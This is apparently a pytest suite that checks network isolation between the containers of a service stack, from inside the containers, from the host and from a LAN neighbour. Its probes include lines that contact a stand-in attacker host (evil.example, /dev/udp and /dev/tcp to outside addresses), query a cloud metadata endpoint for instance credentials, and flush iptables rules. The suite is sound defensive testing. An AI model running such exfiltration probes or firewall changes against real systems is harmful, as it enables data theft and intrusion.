"""Who reaches whom, tried from inside the containers, from the server, and from its neighbour."""

import ipaddress
import json
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from itertools import permutations

import bed as world
import pytest
from bed import Internet, Neighbour, Server
from stack import LISTENS, PORTS, SERVICES, Stack, soon
from suite import bed, control, thorough

# Who may call whom, and at which port.
RELATIONS = {
    ("gateway", "frontend"): 3000,
    ("frontend", "backend"): 4096,
    ("backend", "llm-proxy"): 4000,
    ("backend", "egress"): 3129,
    ("llm-proxy", "egress"): 3128,
}
# Everyone's networks.
MEMBERS = {
    "egress": {"llm_out", "tools_out", "outside"},
    "llm-proxy": {"llm", "llm_out"},
    "backend": {"app", "llm", "tools_out"},
    "frontend": {"web", "app"},
    "gateway": {"edge", "web"},
}
# Where each listens: network and port.
OPEN = {
    "egress": {("llm_out", 3128), ("tools_out", 3129)},
    "llm-proxy": {("llm", 4000)},
    "backend": {("app", 4096)},
    "frontend": {("web", 3000)},
    "gateway": {("edge", 3000)},
}
# What the debug port adds, in development alone: the gateway calls the agent's server.
DEBUG_RELATION = {("gateway", "backend"): 4096}
# What certificates from an authority elsewhere add: the gateway asks for them.
AUTHORITY_RELATION = {("gateway", "egress"): 3130}
SHUT_IN = ("llm-proxy", "backend", "frontend")

# For each ADDRESS PORT, asks over each interface as if the address were on its network, and prints those that a connection came about with.
BOUND = {
    "backend": r"""
while [ $# -gt 0 ]; do
  for interface in $(ls /sys/class/net); do
    { curl --silent --output /dev/null --noproxy '*' --interface "if!$interface" --max-time 2 "http://$1:$2/"
      case $? in 0 | 52 | 56) echo "$interface $1:$2" ;; esac; } &
  done
  wait
  shift 2
done
""",
    "llm-proxy": r"""
exec /app/bin/python -IS -c '
import socket, sys
for address, port in zip(sys.argv[1::2], sys.argv[2::2]):
    for _, interface in socket.if_nameindex():
        with socket.socket() as caller:
            caller.settimeout(1)
            try:
                caller.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
                caller.connect((address, int(port)))
                print(interface, f"{address}:{port}")
            except OSError:
                pass
' "$@"
""",
}


def relations(stack: Stack) -> dict[tuple[str, str], int]:
    """Return who may call whom on this stack, and at which port."""
    return RELATIONS | (DEBUG_RELATION if stack.debugged else {}) | (AUTHORITY_RELATION if stack.acme else {})


def members(stack: Stack) -> dict[str, set[str]]:
    """Return the networks that each service belongs to on this stack."""
    found = {service: set(networks) for service, networks in MEMBERS.items()}
    if stack.debugged:
        found["gateway"].add("app")
    if stack.acme:
        found["gateway"].add("acme_out")
        found["egress"].add("acme_out")
    return found


def inner(stack: Stack) -> set[str]:
    """Return this stack's inner networks."""
    return set().union(*members(stack).values()) - {"edge", "outside"}


def listeners(stack: Stack, service: str) -> set[tuple[str, int]]:
    """Return where a service listens on this stack: network and port."""
    more = {"gateway": {("edge", 4096)} if stack.debugged else set(), "egress": {("acme_out", 3130)} if stack.acme else set()}
    return OPEN[service] | more.get(service, set())


@control("relations")
def test_each_link_of_the_chain_reaches_the_next(stack: Stack) -> None:
    """Calls whom it may call, so that the silence of the others means something."""
    for (source, target), port in relations(stack).items():
        # Where two share a second network, as gateway and frontend do for the debug port, the plain name leads to either.
        name = "frontend-web" if target == "frontend" else target
        assert soon(partial(stack.answered, source, [(name, port)])), f"{source} to {target}"


@control("relations")
def test_each_service_is_on_its_own_networks_alone(stack: Stack) -> None:
    """Looks for a network that a service has no business on."""
    assert {service: stack.members(service) for service in SERVICES} == members(stack)
    strangers = {name: [one["Name"] for one in network["Containers"].values()] for name, network in stack.networks.items()}
    ours = {stack.name(service) for service in SERVICES}
    assert {name: sorted(set(found) - ours) for name, found in strangers.items()} == {name: [] for name in strangers}


@control("relations", "direction")
@thorough
@pytest.mark.parametrize("source", SERVICES)
def test_it_reaches_no_service_but_those_it_calls(stack: Stack, source: str) -> None:
    """Asks every port of every other service, by name and by each of its addresses."""
    targets = {
        (name, port): target
        for target in SERVICES
        if target != source
        for name in ((target, *stack.addresses(target)) if source in SHUT_IN else stack.addresses(target))
        for port in PORTS
        # The tools' own way out is the same port, whatever the address.
        if relations(stack).get((source, target)) != port
    }
    answers = {ask: answer for ask, answer in stack.answers(source, targets).items() if answer}
    if source not in SHUT_IN:
        # These have a way out, where some networks answer to any address at all: who was reached is told by the answer.
        own = {target: soon(partial(answer, stack, target)) for target in set(targets.values())}
        assert all(own.values())
        answers = {ask: answer for ask, answer in answers.items() if without_date(answer) == without_date(own[targets[ask]])}
    assert answers == {}


def answer(stack: Stack, service: str) -> str:
    """Return the head of a service's answer to itself."""
    return stack.answers(service, [LISTENS[service]])[LISTENS[service]]


def without_date(head: str) -> list[str]:
    """Return the lines of an answer's head that are always the same."""
    return [line for line in head.splitlines() if not line.lower().startswith(("date:", "x-squid-error", "content-length"))]


@control("direction")
@pytest.mark.parametrize("service", SERVICES)
def test_it_listens_on_the_network_of_its_callers_alone(stack: Stack, service: str) -> None:
    """Looks for a port that is open on another network, or that nobody knows of."""
    tables = stack.inner[service]["tcp"]
    rows = [line.split() for line in tables.splitlines() if ": " in line]
    listening = {
        (str(ipaddress.ip_address(bytes.fromhex(address)[::-1])), int(port, 16))
        for address, port in (row[1].split(":") for row in rows if row[3] == "0A")
        if len(address) == 8
    }
    outward = {(address, port) for address, port in listening if not ipaddress.ip_address(address).is_loopback}
    own = {name: network["IPAddress"] for name, network in stack.containers[service]["NetworkSettings"]["Networks"].items()}
    # The one that only leads from http to https, where there is TLS.
    redirect = {("edge", 3080)} if "3080/tcp" in (stack.containers[service]["HostConfig"]["PortBindings"] or {}) else set()
    wanted = set(listeners(stack, service)) | redirect
    assert outward == {(own[f"{stack.project}_{name}"], port) for name, port in wanted}
    assert not [row for row in rows if len(row[1]) > 20 and row[3] == "0A"], "a listener of IPv6"


def bound(stack: Stack, source: str) -> str:
    """Return who is reached, of the services' listeners on networks that are not the caller's, by sockets bound to an interface."""
    prefix = f"{stack.project}_"
    targets = [
        (network["IPAddress"], str(port))
        for service in SERVICES
        for name, network in stack.containers[service]["NetworkSettings"]["Networks"].items()
        if name.removeprefix(prefix) not in stack.members(source) | {"outside"}
        for port in sorted({port for _, port in listeners(stack, service)})
    ]
    assert len(targets) > 5
    return str(stack.inside(source, BOUND[source], *(word for target in targets for word in target)).stdout)


@control("own-address")
@thorough
@pytest.mark.parametrize("source", BOUND)
def test_no_interface_leads_to_an_address_of_another_network(stack: Stack, source: str) -> None:
    """Binds sockets to each interface, which needs no right, and calls every other service's addresses on networks that it is not on."""
    assert bound(stack, source) == ""


@control("own-address")
@bed
@pytest.mark.parametrize("source", BOUND)
def test_nor_where_bridges_do_without_the_firewall(stack: Stack, source: str) -> None:
    """Does so where the server's firewall does not look at what goes from container to container, as with engines from 27.3 on."""
    switch = "net.bridge.bridge-nf-call-iptables"
    before = stack.server.run(f"sysctl --values {switch}").stdout.strip()
    if before:
        stack.server.check_output(f"sysctl --write {switch}=0")
    try:
        assert bound(stack, source) == ""
    finally:
        if before:
            stack.server.check_output(f"sysctl --write {switch}={before}")


@control("own-address")
def test_no_service_takes_the_way_that_a_packet_says(stack: Stack) -> None:
    """Looks whether a packet may say by which of a service's addresses it goes on to another."""
    assert {service: stack.inner[service]["routed"].strip() for service in SERVICES} == dict.fromkeys(SERVICES, "0")


@control("inner-networks", "no-host-address")
def test_an_inner_network_has_no_way_out_and_no_address_of_the_server(stack: Stack) -> None:
    """Looks at the networks as they are, which may not be as they were described."""
    assert {name for name, network in stack.networks.items() if network["Internal"]} == inner(stack)
    for name in inner(stack):
        bridge = f"br-{stack.networks[name]['Id'][:12]}"
        assert stack.server.check_output(f"ip -oneline -4 address show dev {bridge}") == "", name


@control("inner-networks")
def test_no_inner_service_reaches_the_internet(stack: Stack) -> None:
    """Calls a host of the internet's by its address, past the guard, and asks for its name."""
    known = stack.server.run("getent ahostsv4 deb.debian.org").stdout.split()
    outside = sorted({*known[:1], "1.1.1.1"})
    ask = "timeout 2 bash -c 'exec 3<>/dev/tcp/$0/80 && printf \"HEAD / HTTP/1.0\\r\\n\\r\\n\" >&3 && head -c 99 <&3' $address"
    script = f'getent hosts deb.debian.org & for address in "$@"; do {ask} & done 2>/dev/null; wait'
    with ThreadPoolExecutor() as pool:
        said = pool.map(lambda service: stack.inside(service, script, *outside).stdout, SHUT_IN)
    assert dict(zip(SHUT_IN, said, strict=True)) == dict.fromkeys(SHUT_IN, "")


@control("inner-networks")
@bed
@pytest.mark.parametrize("service", SHUT_IN)
def test_it_reaches_nobody_outside_but_through_the_guard(stack: Stack, internet: Internet, service: str) -> None:
    """Calls the attacker over TCP, UDP and DNS, with the proxy's variables unset."""
    mark = internet.mark()
    script = f"""unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy
        for port in 22 53 80 443 853 9999; do (echo from-{service} >/dev/udp/{world.ATTACKER}/$port) 2>/dev/null; done
        getent hosts from-{service}.evil.example; getent ahostsv6 from-{service}.evil.example
        command -v curl >/dev/null && curl --silent --noproxy '*' --max-time 3 http://evil.example/from-{service}
        true"""
    stack.output(service, script)
    outside = [
        (address, port) for address in (world.ATTACKER, world.ATTACKER6, world.LAN_SERVICE, world.METADATA) for port in (22, 53, 80, 443)
    ]
    assert stack.answered(service, outside) == []
    # The record is written in the order of what comes: once this is there, so is what came before it.
    stack.server.check_output(f"curl --silent http://evil.example/end-of-{service}")
    seen = internet.records(mark)
    assert any(f"end-of-{service}" in json.dumps(entry) for entry in seen)
    assert [entry for entry in seen if f"from-{service}" in json.dumps(entry)] == []


@control("no-host-address", "no-ipv6")
@bed
@pytest.mark.parametrize("service", SHUT_IN)
def test_it_reaches_nothing_of_the_servers_own(stack: Stack, service: str) -> None:
    """Asks the server's own service at every address that the server has: LAN, internet, bridges, link-local."""
    links = json.loads(stack.server.check_output("ip -json address"))
    addresses = {
        one["local"] + ("%eth0" if one["scope"] == "link" else "") for link in links for one in link["addr_info"] if link["ifname"] != "lo"
    }
    gateways = {config["Gateway"] for network in stack.networks.values() for config in network["IPAM"]["Config"] if "Gateway" in config}
    assert len(addresses | gateways) > 8
    port = int(world.HOST_SERVICE["port"])
    assert (
        stack.answered(
            service, [(name, port) for name in (*sorted(addresses | gateways), "host.docker.internal", "gateway.docker.internal")]
        )
        == []
    )


@control("no-ipv6")
def test_no_container_has_an_ipv6_address(stack: Stack) -> None:
    """Looks for an IPv6 address on anything but loopback."""
    for service in SERVICES:
        interfaces = stack.inner[service]["ipv6"]
        assert [line for line in interfaces.splitlines() if not line.endswith(" lo")] == [], service
    assert [name for name, network in stack.networks.items() if network["EnableIPv6"]] == []


@control("one-port")
def test_only_the_gateway_is_published_and_without_tls_and_login_on_loopback_alone(stack: Stack) -> None:
    """Looks for a published port."""
    published = {
        (service, port, binding["HostIp"])
        for service in SERVICES
        for port, bindings in (stack.containers[service]["HostConfig"]["PortBindings"] or {}).items()
        for binding in bindings
    }
    ports = {"3000/tcp", *(["4096/tcp"] if stack.debugged else []), *(["3080/tcp"] if stack.secured else [])}
    assert {(service, port) for service, port, _ in published} <= {("gateway", port) for port in ports}
    assert stack.secured or all(ipaddress.ip_address(address).is_loopback for _, _, address in published)
    assert [service for service in SERVICES if stack.containers[service]["HostConfig"]["PublishAllPorts"]] == []


@control("one-port")
@bed
@pytest.mark.parametrize("address", [world.SERVER["lan"], world.SERVER["lan6"]])
def test_the_neighbour_finds_no_open_port_of_the_stack(neighbour: Neighbour, address: str) -> None:
    """Asks the server from another machine on its LAN, at every port that something of the stack listens on."""
    assert world.HOST_SERVICE["answer"] in neighbour.answer(address, world.HOST_SERVICE["port"])
    assert [port for port in (*PORTS, 80, 443, 2019, 2375, 2376) if neighbour.answer(address, port, 2)] == []


def reached(stack: Stack, neighbour: Neighbour, server: Server) -> list[str]:
    """Return what answers the neighbour with more than a refusal, when it sends what is for the containers to the server."""
    neighbour.route(server.subnets())
    stack.refresh()
    asks = [(service, address, port) for service in SERVICES for address in stack.addresses(service) for port in PORTS]
    curl = "curl --silent --include --header 'Host: localhost:3000' --max-time 3"
    script = "\n".join(
        f"(said=$({curl} http://{address}:{port}/ | head -1); echo {service} {port} $said) &" for service, address, port in asks
    )
    said = neighbour.output(f"{script}\nwait")
    assert len(said.splitlines()) == len(asks)
    return [line for line in said.splitlines() if len(line.split()) > 2 and " 403" not in line]


@control("static-route")
@bed
def test_a_neighbour_with_a_route_of_its_own_reaches_nothing(stack: Stack, neighbour: Neighbour, server: Server) -> None:
    """Sends packets for the containers' addresses to the server, as a neighbour on the LAN can."""
    assert reached(stack, neighbour, server) == []


@control("static-route", "inner-networks")
@bed
@pytest.mark.parametrize("event", ["the firewall is emptied and the engine restarts", "the server restarts"])
def test_it_is_closed_again_when_something_was_restarted(
    stack: Stack, neighbour: Neighbour, server: Server, internet: Internet, event: str
) -> None:
    """Restarts the engine, its firewall rules, or the server, and tries from both sides again."""
    if event == "the server restarts":
        server.restart()
    else:
        server.output("iptables --flush && iptables --table nat --flush")
        server.restart_engine()
    assert reached(stack, neighbour, server) == []
    mark = internet.mark()
    assert stack.answered("backend", [(world.ATTACKER, 80), (world.SERVER["lan"], int(world.HOST_SERVICE["port"]))]) == []
    assert [entry for entry in internet.records(mark) if entry["kind"] == "http"] == []
    assert stack.from_server("http://localhost:3000/") == "200"
    # The world is as it was, too: what is closed would be open.
    assert stack.server.check_output(f"curl --silent --max-time 5 http://{world.METADATA}/").startswith("instance credentials")


@control("relations")
@thorough
def test_no_pair_shares_a_network_without_a_relation(stack: Stack) -> None:
    """Looks at each pair of services that share a network."""
    known = relations(stack)
    sharing = {pair for pair in permutations(SERVICES, 2) if stack.members(pair[0]) & stack.members(pair[1])}
    assert {pair for pair in sharing if pair not in known and (pair[1], pair[0]) not in known} == set()
